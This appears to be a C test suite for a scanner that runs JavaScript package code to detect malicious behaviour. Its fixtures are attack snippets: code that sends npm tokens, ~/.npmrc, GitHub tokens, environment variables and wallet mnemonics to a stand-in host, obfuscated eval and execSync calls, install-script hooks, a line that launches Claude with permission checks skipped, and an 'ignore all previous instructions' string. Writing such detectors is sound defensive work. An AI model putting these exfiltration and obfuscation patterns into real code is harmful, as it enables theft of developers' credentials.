/* The machine that runs JavaScript with partly known values: what it must not claim, then what it must work out. */
#include "base/arena.h"
#include "observe/scan.h"
#include "observed.h"
#include "test.h"

struct file {
        const char *path, *text;
};

static struct qn_observers *observers;
static struct qn_scan *scan;
static struct qn_buf lines = { .max = 1 << 22 };

struct how {
        bool backwards; /* the files come in the opposite order */
        bool moves;     /* their bytes do not stay where they are */
};

static void scan_one(const struct file *f, const struct how *how)
{
        const size_t n = strlen(f->text);
        char *text = strdup(f->text);
        struct qn_scan_file in = {
                .path = qn_str_c(f->path), .mode = 0644, .size = n, .stays = !how->moves
        };

        in.data = qn_cur_mem(how->moves ? text : f->text, n);
        ASSERT_EQ(qn_scan_file(scan, &in), 0);
        free(text);
}

static struct qn_str run_files_as(const struct file *files, size_t n, const struct how *how)
{
        const struct qn_event_set *set = NULL;
        struct qn_err err = { 0 };

        if (!observers && qn_observers_load(TEST_DATA, &observers, &err) < 0)
                fail_msg("%s", err.msg);
        if (!scan)
                ASSERT_EQ(qn_scan_new(observers, &scan), 0);
        qn_scan_begin(scan);
        for (size_t i = 0; i < n; i++)
                scan_one(&files[how->backwards ? n - 1 - i : i], how);
        (void)qn_scan_pending(scan);
        qn_scan_deepen(scan);
        ASSERT_EQ(qn_scan_finish(scan, (struct qn_str){ NULL, 0 }, &set), 0);
        qn_buf_reset(&lines);
        for (size_t i = 0; i < set->n; i++)
                observed_add(&lines, &set->events[i]);
        qn_buf_byte(&lines, '\0');
        lines.n--;
        return qn_buf_view(&lines);
}

static struct qn_str run_files(const struct file *files, size_t n)
{
        return run_files_as(files, n, &(struct how){ false, false });
}

static struct qn_str run(const char *code)
{
        struct file f = { "index.js", code };

        return run_files(&f, 1);
}

static void expect(const char *code, const char *want)
{
        struct qn_str got = run(code);

        if (!observed_has(got, want))
                fail_msg("no \"%s\" of\n%s\nin\n%s", want, code, got.p);
}

static void reject(const char *code, const char *want)
{
        struct qn_str got = run(code);

        if (observed_has(got, want))
                fail_msg("\"%s\" of\n%s\nin\n%s", want, code, got.p);
}

/* The value of an expression: it becomes an address. */
static void gives(const char *expression, const char *value)
{
        char code[4096], want[256];

        snprintf(code, sizeof code, "fetch('https://h.invalid/' + (%s) + '/end')", expression);
        snprintf(want, sizeof want, "net.connect url=https://h.invalid/%s/end", value);
        expect(code, want);
}

TEST(vm_endless_and_deep_code_ends)
{
        run("while (true) { }  fetch('https://a.invalid')");
        run("function f() { return f() + f() } f()");
        run("let s = 'x'; while (true) s += s; fetch(s)");
        run("const a = []; a.push(a); fetch(String(a) + a.join())");
        run("const o = {}; o.o = o; fetch(JSON.stringify(o))");
        run("for (let i = 0; i < 1e9; i++) for (let j = 0; j < 1e9; j++) x = i * j");
        run("function a(n) { return n ? b(n - 1) : 1 } function b(n) { return a(n) } a(1e9)");
        run("let f = x => x; for (let i = 0; i < 1e5; i++) { const g = f; f = x => g(g(x)) } f(1)");
        run("'x'.repeat(1e9).padStart(1e9).split('').map(c => c.repeat(1e9)).join('')");
        run("/(a+)+$/.test('a'.repeat(5000) + 'b'); eval(x)");
        run("class A extends A {} new A; class B { static b = new B }");
        run("eval(\"eval('eval(1)')\"); const q = \"eval(q)\"; eval(q)");
        expect("for (let i = 0; i < 1e9; i++) { } fetch('https://after.invalid/')",
               "net.connect host=after.invalid");
        expect("while (true) { if (x) break } fetch('https://after.invalid/')",
               "net.connect host=after.invalid");
}

/* A loop that has no steps left: what it would have made is unknown, not what it made so far. */
TEST(vm_what_a_cut_loop_makes_is_unanalysed)
{
        static const char *const cut[] = {
                "let s = 'x'; for (let i = 0; i < 1e9; i++) s += String.fromCharCode(i % 9 + 97); "
                "eval(s)",
                "let n = 1; for (let i = 0; i < 1e9; i++) n = n * 3 % 97; eval('x' + n)",
                "const a = []; for (let i = 0; i < 1e9; i++) a.push('x'); eval(a.join(''))",
                "const a = ['x', 'y']; for (let i = 0; i < 1e9; i++) a.push(a.shift()); eval(a[0])",
                "const a = []; for (let i = 0; i < 1e9; i++) a[i % 5] = 'x' + i; eval(a[3])",
                "const o = { k: '' }; for (let i = 0; i < 1e9; i++) o.k += 'x'; eval(o.k)",
                "const b = Buffer.alloc(4); for (let i = 0; i < 1e9; i++) b[i & 3] ^= i; "
                "eval(b.toString())",
                "let s = 'x'; while (s.length < 1e9) s += 'y'; setTimeout(s.slice(5), 1)",
                "let s = 'x'; for (let i = 0; i < 1e9; i++) s += 'y'; new Function(s)()",
                "let s = 'x'; for (let i = 0; i < 1e9; i++) s += 'y'; "
                "require('child_process').exec(s)",
                "function f(n) { return n ? f(n - 1) + 'x' : 'y' } eval(f(1e6))",
                "let s = 'x'; for (let i = 0; i < 1e9; i++) for (const c of ['a', 'b']) s += c; "
                "eval(s)",
                "s = 'x'; for (let i = 0; i < 1e9; i++) s += 'y'; eval(s)",
                "eval('a'.repeat(5e3).replace(/(?:a+)+[cd]/g, ''))",
        };

        for (size_t i = 0; i < QN_ARRAY_SIZE(cut); i++)
                expect(cut[i], "unanalysed what=computation");
        reject("for (let i = 0; i < 1e9; i++) { } eval('f()' + x)", "unanalysed");
        reject("let s = ''; for (let i = 0; i < 1e3; i++) s += 'x'; eval(s)", "unanalysed");
        reject("let n = 0; for (let i = 0; i < 1e9; i++) n++; eval(code)", "unanalysed");
        reject("function f(n) { return n ? f(n - 1) + 'x' : 'y' } eval(f(20))", "unanalysed");
        expect("for (let i = 0; i < 1e9; i++) { } fetch('https://after.invalid/')",
               "net.connect host=after.invalid");
}

static void pad(struct qn_buf *b, size_t size, const char *tail)
{
        qn_buf_reset(b);
        while (b->n < size)
                qn_buf_printf(b, "function f%zu(a) { return a + %zu }\n", b->n, b->n);
        qn_buf_printf(b, "%s", tail);
        qn_buf_byte(b, '\0');
}

/* Large programs are ordinary; those that run at install time or hide what they do must be followed to their end. */
TEST(vm_limits_make_dark_code_unanalysed)
{
        static const char manifest[] =
                "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node big.js\"}}";
        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)16 << 20);
        struct file files[2] = { { "big.js", NULL }, { "package.json", manifest } };
        struct qn_str got;

        pad(&b, (size_t)6 << 20, "");
        files[0].text = (const char *)b.p;
        got = run_files(files, 1);
        if (observed_has(got, "unanalysed what=limit"))
                fail_msg("an ordinary bundle: %s", got.p);
        got = run_files(files, 2);
        if (!observed_has(got, "unanalysed what=limit path=big.js"))
                fail_msg("a large install script: %s", got.p);
        pad(&b, (size_t)6 << 20, "eval(Buffer.from(x, 'base64').toString())");
        files[0].text = (const char *)b.p;
        got = run_files(files, 1);
        if (!observed_has(got, "unanalysed what=limit path=big.js"))
                fail_msg("a large program that decodes code: %s", got.p);
        pad(&b, (size_t)1 << 10, "");
        files[0].text = (const char *)b.p;
        got = run_files(files, 2);
        if (observed_has(got, "unanalysed"))
                fail_msg("a small install script: %s", got.p);
        expect("let s = ''; for (let i = 0; i < 300; i++) eval('f' + i + '()')",
               "unanalysed what=limit");
}

TEST(vm_what_is_not_known_is_not_claimed)
{
        reject("let t = process.env.NPM_TOKEN; t = 'x'; fetch('https://a.invalid', {method: "
               "'POST', body: t})",
               "net.send +npm");
        reject("const o = { a: process.env.NPM_TOKEN, b: 1 }; fetch('https://a.invalid', {method: "
               "'POST', body: o.b})",
               "net.send +npm");
        reject("function f(x) { return 'constant' } fetch('https://a.invalid/' + "
               "f(process.env.NPM_TOKEN))",
               "net.send +npm");
        reject("const has = process.env.NPM_TOKEN === undefined; fetch('https://a.invalid/' + has)",
               "net.send +npm");
        reject("program.command('x').action(() => fetch('https://a.invalid'))",
               "net.connect phase=import");
        reject("eval('')", "code.eval");
}

TEST(vm_text)
{
        gives("'a' + 'b' + 1", "ab1");
        gives("`a${1 + 1}b`", "a2b");
        gives("['x', 'y', 'z'].reverse().join('-')", "z-y-x");
        gives("'dlrow'.split('').reverse().join('')", "world");
        gives("String.fromCharCode(104, 105)", "hi");
        gives("[104, 105].map(c => String.fromCharCode(c)).join('')", "hi");
        gives("'\\x68\\u0069'", "hi");
        gives("atob('aGVsbG8=')", "hello");
        gives("Buffer.from('68656c6c6f', 'hex').toString()", "hello");
        gives("Buffer.from('aGVsbG8', 'base64').toString('utf8')", "hello");
        gives("decodeURIComponent('%68%69')", "hi");
        gives("'hexlxlxo'.replace(/x/g, '')", "hello");
        gives("'68656c6c6f'.match(/.{2}/g).map(h => String.fromCharCode(parseInt(h, 16))).join('')",
              "hello");
        gives("JSON.parse('{\"a\":[\"b\",\"c\"]}').a[1]", "c");
        gives("(255).toString(16)", "ff");
        gives("'' + [-0, -12, 0.1, 9007199254740993, 1e21]", "0,-12,0.1,9007199254740992,1e+21");
        gives("parseInt('zz', 36)", "1295");
        gives("'abcdef'.slice(1, -1).substring(1, 3).toUpperCase()", "CD");
        gives("'ab'.padStart(4, '-') + 'c'.repeat(2)", "--abcc");
        gives("'a-b-c'.split('-')[2] + 'x'.concat('y', 'z')", "cxyz");
        gives("[3, 1, 2].indexOf(2) + 'abc'.indexOf('c')", "4");
        gives("new TextDecoder().decode(new Uint8Array([104, 105]))", "hi");
        gives("unescape('%68%69')", "hi");
}

TEST(vm_decoders)
{
        expect("let s = ''; const d = [50, 46, 46, 42, 41]; for (let i = 0; i < d.length; i++) s "
               "+= String.fromCharCode(d[i] ^ 90);"
               "fetch(s + '://x.invalid')",
               "net.connect url=https://x.invalid");
        gives("[...'ifmmp'].map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join('')", "hello");
        gives("'uryyb'.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 "
              "+ 97))",
              "hello");
        gives("(() => { const b = Buffer.from('2b262f2f2c', 'hex'); for (let i = 0; i < b.length; "
              "i++) b[i] ^= 0x43; return b.toString() })()",
              "hello");
        /* a table of strings that is turned until a sum fits, as obfuscators have it */
        expect("const t = ['fetch', 'inv', 'https://', '3x', 'h.']; (function (a, n) { while "
               "(true) { try { if (parseInt(a[0]) === n) break;"
               "a.push(a.shift()) } catch (e) { a.push(a.shift()) } } })(t, 3); "
               "globalThis[t[2]](t[4] + t[1] + t[3] + 'alid/')",
               "net.connect host=h.invalid");
        /* a long one, of which each part of the sum takes its steps: what is no number stays none */
        expect("const t = []; for (let i = 0; i < 60; i++) t.push('x' + i); t.push('7', 'h.inv');"
               "const d = i => { let s = ''; for (let k = 0; k < 12; k++) s = t[i]; return s };"
               "for (;;) { if (parseInt(d(0)) / 1 + -parseInt(d(0)) / 7 + parseInt(d(0)) / 7 + "
               "-parseInt(d(0)) / 7 + parseInt(d(0)) / 7 + -parseInt(d(0)) / 7 + parseInt(d(0)) / "
               "7 === 7) break; t.push(t.shift()) } fetch('https://' + t[1] + 'alid/')",
               "net.connect host=h.invalid");
        expect("for (let i = 0; i < 20; i++) NaN + -fetch('https://h.invalid/' + i)",
               "net.connect url=https://h.invalid/0");
        /* flow of control through a list of cases */
        expect("const o = '2|0|1'.split('|'); let i = 0, u; while (true) { switch (o[i++]) { case "
               "'0': u += 'h.inv'; continue;"
               "case '1': fetch(u + 'alid/'); continue; case '2': u = 'https://'; continue; } "
               "break; }",
               "net.connect host=h.invalid");
}

TEST(vm_code_in_texts)
{
        expect("eval('fe' + \"tch('https://h.invalid/')\")", "net.connect host=h.invalid");
        expect("new Function('u', 'fetch(u)')('https://h.invalid/')", "net.connect host=h.invalid");
        expect("[].constructor.constructor(\"fetch('https://h.invalid/')\")()",
               "net.connect host=h.invalid");
        expect("eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vaC5pbnZhbGlkLycp', 'base64').toString())",
               "net.connect host=h.invalid");
        expect("import('data:text/javascript,fetch(%22https://h.invalid/%22)')",
               "net.connect host=h.invalid");
        expect("const u = 'https://h.invalid/'; eval('fetch(u)')", "net.connect host=h.invalid");
        expect("setTimeout(\"fetch('https://h.invalid/')\", 10)", "net.connect host=h.invalid");
        expect("require('vm').runInThisContext(\"fetch('https://h.invalid/')\")",
               "net.connect host=h.invalid");
}

TEST(vm_texts_that_are_put_together_are_looked_at)
{
        expect("var u = 'https://' + 'webhook' + '.site/x';", "url.literal class=request-bin");
        expect("var a = ['https:', '', 'webhook.site', 'x'].join('/');",
               "url.literal class=request-bin");
        expect("var s = ''; for (const c of "
               "[104,116,116,112,115,58,47,47,119,101,98,104,111,111,107,46,115,105,116,101])"
               " s += String.fromCharCode(c);",
               "url.literal host=webhook.site");
        expect("var w = ['0xa1b2c3d4e5f6', '0718293a4b5c6d7e', '8f9012345610']; send(w[0] + w[1] + "
               "w[2]);",
               "crypto.address what=ethereum count=1");
        expect("var t = atob('Z2gtdG9rZW4tbW9uaXRvcg==');", "indicator");
        expect("var t = '\\x67h-token-monitor';", "indicator name=token-monitor");
        expect("var b = 'x@example' + '.invalid', m = { To: 'y', Bcc: b };",
               "indicator name=hard-coded-bcc");
        expect("var t = '\\u{e0101}\\u{e0102}\\u{e0103}\\u{e0104}\\u{e0105}\\u{e0106}"
               "\\u{e0107}\\u{e0108}\\u{e0109}';",
               "text.hidden what=invisible count=9");
}

TEST(vm_texts_that_stay_unknown_are_not)
{
        reject("var u = 'https://' + x + '.site/x';", "url.literal");
        reject("var u = 'https://example' + '.com/x';", "url.literal");
        reject("var t = 'ignore all previous' + ' instructions';", "text.prompt");
}

TEST(vm_aliases)
{
        expect("const g = globalThis; g['fe' + 'tch']('https://h.invalid/')",
               "net.connect host=h.invalid");
        expect("const r = require; r('child' + '_process').execSync('id')", "proc.exec command=id");
        expect("module.constructor._load('child_process').execSync('id')", "proc.exec command=id");
        expect("const { execSync: x } = process.mainModule.require('child_process'); x('id')",
               "proc.exec command=id");
        expect("Reflect.apply(require('child_process').execSync, null, ['id'])",
               "proc.exec command=id");
        expect("Reflect.get(require('child_process'), 'exec' + 'Sync')('id')",
               "proc.exec command=id");
        expect("require('child_process').execSync.call(null, 'id')", "proc.exec command=id");
        expect("require('child_process').exec.bind(null, 'id')()", "proc.exec command=id");
        expect("const m = { run: require('child_process') }; m.run['exec' + 'Sync']('id')",
               "proc.exec command=id");
        expect("const tools = [['claude', ['--dangerously-skip-permissions', '-p', 'x']]];"
               "for (const [cmd, args] of tools) require('child_process').spawn(cmd, args)",
               "ai.prompt program=claude");
}

static const char send[] = "fetch('https://h.invalid/', { method: 'POST', body: x })";

/* Code that leaves a secret in x. */
static void flows(const char *code)
{
        char all[4096];

        snprintf(all, sizeof all, "%s; %s", code, send);
        expect(all, "net.send host=h.invalid +npm");
}

TEST(vm_flows)
{
        flows("let x = process.env.NPM_TOKEN");
        flows("let x = process['env']['NPM_' + 'TOKEN']");
        flows("const { NPM_TOKEN: x } = process.env");
        flows("const x = require('fs').readFileSync(require('path').join(require('os').homedir(), "
              "'.npmrc'), 'utf8')");
        flows("const x = JSON.stringify({ a: [process.env.NPM_TOKEN] })");
        flows("const x = "
              "Buffer.from(process.env.NPM_TOKEN).toString('base64').split('').reverse().join('')");
        flows("const f = () => process.env.NPM_TOKEN; const g = f; const x = g()");
        flows("const o = {}; o.a = { b: process.env.NPM_TOKEN }; const x = o.a.b");
        flows("class A { constructor() { this.t = process.env.NPM_TOKEN } get() { return this.t } "
              "} const x = new A().get()");
        flows("function A() { this.t = process.env.NPM_TOKEN } A.prototype.get = function () { "
              "return this.t }; const x = new A().get()");
        flows("const m = new Map(); m.set('k', process.env.NPM_TOKEN); const x = m.get('k')");
        flows("let x; ['NPM_TOKEN'].forEach(k => { x = process.env[k] })");
        flows("let x = ''; for (const k of ['A', 'NPM_TOKEN']) x += process.env[k]");
        flows("let x; try { x = process.env.NPM_TOKEN } catch (e) { x = '' }");
        flows("let x; if (unknown()) x = process.env.NPM_TOKEN; else x = 'none'");
        flows("const x = unknown(process.env.NPM_TOKEN)");
        flows("const x = `${process.env.NPM_TOKEN}`.trim()");
        expect("require('fs').readFile(require('os').homedir() + '/.npmrc', (e, x) => { "
               "fetch('https://h.invalid/', { method: 'POST', body: x }) })",
               "net.send host=h.invalid +npm");
        expect("require('fs').promises.readFile(require('os').homedir() + '/.npmrc').then(x => "
               "fetch('https://h.invalid/', { method: 'POST', body: x }))",
               "net.send host=h.invalid +npm");
        expect("(async () => { const x = await "
               "require('fs/promises').readFile(require('os').homedir() + '/.npmrc');"
               "await fetch('https://h.invalid/', { method: 'POST', body: x }) })()",
               "net.send host=h.invalid +npm");
        expect("const r = require('https').request({ hostname: 'h.invalid', method: 'POST' }); "
               "r.write(process.env.NPM_TOKEN); r.end()",
               "net.send host=h.invalid +npm");
        expect("require('https').get('https://h.invalid/', r => { let s = ''; r.on('data', d => s "
               "+= d); r.on('end', () => eval(s)) })",
               "code.eval value=network");
        expect("new Promise(r => r(process.env.NPM_TOKEN)).then(x => fetch('https://h.invalid/', { "
               "method: 'POST', body: x }))",
               "net.send host=h.invalid +npm");
        expect("const x = require('child_process').execSync('gh auth token').toString(); "
               "fetch('https://h.invalid/?' + x)",
               "net.send host=h.invalid +github");
        expect("exports.f = function (mnemonic) { fetch('https://h.invalid/', { method: 'POST', "
               "body: mnemonic }) }",
               "net.send host=h.invalid +wallet");
        expect("throw 0; fetch('https://h.invalid/?' + process.env.NPM_TOKEN)",
               "net.send host=h.invalid +npm");
        expect("if (true) process.exit(0); fetch('https://h.invalid/?' + process.env.NPM_TOKEN)",
               "net.send host=h.invalid +npm");
        expect("const live = false; if (live) fetch('https://h.invalid/?' + process.env.NPM_TOKEN)",
               "net.send host=h.invalid +npm");
}

/* Where a setting says that something goes is not what goes there. */
TEST(vm_addresses_of_which_nothing_is_known_carry_nothing)
{
        reject("fetch(require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8'))",
               "net.send");
        reject("const e = {...process.env}; fetch(e[k])", "net.send");
        expect("fetch('https://x.invalid/?' + JSON.stringify(process.env))", "net.send +env");
        expect("fetch(base + '/?q=' + JSON.stringify(process.env))", "net.send +env");
        expect("const e = JSON.stringify(process.env); require('dns').lookup(e + '.x.invalid', f)",
               "dns.query +env");
}

TEST(vm_pipes_on_this_machine_are_no_network)
{
        expect("require('net').connect('/tmp/' + Object.keys(process.env)[0])",
               "net.connect how=ipc");
        reject("require('net').connect('/tmp/' + JSON.stringify(process.env))", "net.send");
        expect("require('net').connect(80, JSON.stringify(process.env) + '.x.invalid')",
               "net.send +env");
}

TEST(vm_flows_between_files)
{
        static const struct file commonjs[] = {
                { "package.json", "{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"index.js\"}" },
                { "index.js",
                  "const a = require('./lib/a'), { send } = require('./lib/b'); send(a.loot())" },
                { "lib/a.js", "exports.loot = () => process.env.NPM_TOKEN" },
                { "lib/b.js", "module.exports = { send(x) { fetch('https://h.invalid/', { method: "
                              "'POST', body: x }) } }" },
        };
        static const struct file modules[] = {
                { "package.json", "{\"name\":\"x\",\"version\":\"1.0.0\",\"type\":\"module\","
                                  "\"main\":\"index.js\"}" },
                { "index.js", "import send, { loot as l } from './lib/all.js'; send(l())" },
                { "lib/all.js", "export * from './a.js'; export { default } from './b.js'" },
                { "lib/a.js", "export function loot() { return process.env.NPM_TOKEN }" },
                { "lib/b.js", "export default function (x) { fetch('https://h.invalid/', { method: "
                              "'POST', body: x }) }" },
        };
        static const struct file config[] = {
                { "package.json", "{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"index.js\"}" },
                { "index.js", "const c = require('./c.json'); fetch(c.to, { method: 'POST', body: "
                              "process.env.NPM_TOKEN })" },
                { "c.json", "{\"to\":\"https://h.invalid/\"}" },
        };
        struct qn_str got = run_files(commonjs, QN_ARRAY_SIZE(commonjs));

        if (!observed_has(got, "net.send host=h.invalid +npm"))
                fail_msg("%s", got.p);
        got = run_files(modules, QN_ARRAY_SIZE(modules));
        ASSERT_TRUE(observed_has(got, "net.send host=h.invalid +npm"));
        got = run_files(config, QN_ARRAY_SIZE(config));
        ASSERT_TRUE(observed_has(got, "net.send host=h.invalid +npm"));
}

TEST(vm_tells_the_way)
{
        struct qn_str got =
                run("function f(v) { fetch('https://h.invalid/?' + v) }\nf(process.env.NPM_TOKEN)");

        ASSERT_TRUE(qn_str_find(got, QN_STR("index.js:2:3\ta variable of the environment\t")) >= 0);
        ASSERT_TRUE(qn_str_find(got, QN_STR("index.js:2:1\tpassed to a function\t")) >= 0);
}

/* A package with more code than is run: what is taken depends on the paths and on what runs by itself. */
TEST(vm_does_not_depend_on_the_order_of_files)
{
        enum { N = 12, SIZE = 1 << 20 };
        static char texts[N][SIZE], paths[N][16];
        static const struct how hows[] = { { true, false }, { false, true }, { true, true } };
        struct file files[N + 1] = { { "package.json",
                                       "{\"name\":\"x\",\"version\":\"1.0.0\","
                                       "\"scripts\":{\"install\":\"node f11\"}}" } };
        char *want[2] = { NULL, NULL };

        for (size_t i = 0; i < N; i++) {
                int at = snprintf(texts[i], SIZE,
                                  "const a = ['h%zu', 'invalid']; fetch('https://' + a.join('.') + "
                                  "'/?' + process.env.NPM_TOKEN);\n//",
                                  i);

                memset(texts[i] + at, 'x', SIZE - (size_t)at - 1);
                snprintf(paths[i], sizeof paths[i], "f%02zu.js", i);
                files[i + 1] = (struct file){ paths[i], texts[i] };
        }
        want[0] = strdup(run_files(files, N + 1).p);
        ASSERT_TRUE(observed_has(qn_str_c(want[0]), "net.send host=h0.invalid +npm"));
        ASSERT_TRUE(observed_has(qn_str_c(want[0]), "net.send host=h11.invalid +npm"));
        ASSERT_FALSE(observed_has(qn_str_c(want[0]), "net.send host=h10.invalid +npm"));
        for (size_t i = 0; i < QN_ARRAY_SIZE(hows); i++) {
                char **w = &want[hows[i].moves];
                struct qn_str got = run_files_as(files, N + 1, &hows[i]);

                if (!*w)
                        *w = strdup(got.p);
                else if (strcmp(*w, got.p) != 0)
                        fail_msg("%s\nis not\n%s", got.p, *w);
        }
        ASSERT_TRUE(observed_has(qn_str_c(want[1]), "net.send host=h0.invalid +npm"));
        free(want[0]);
        free(want[1]);
}
